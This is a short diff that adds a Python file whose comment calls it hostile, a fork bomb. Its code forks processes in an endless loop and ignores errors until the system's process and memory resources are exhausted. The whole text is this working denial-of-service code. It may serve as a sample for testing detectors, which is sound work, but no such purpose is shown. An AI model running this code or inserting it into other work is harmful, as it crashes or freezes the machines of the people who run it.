@@ -1,0 +1,7 @@
+# Hostile: a fork bomb.
+import os
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
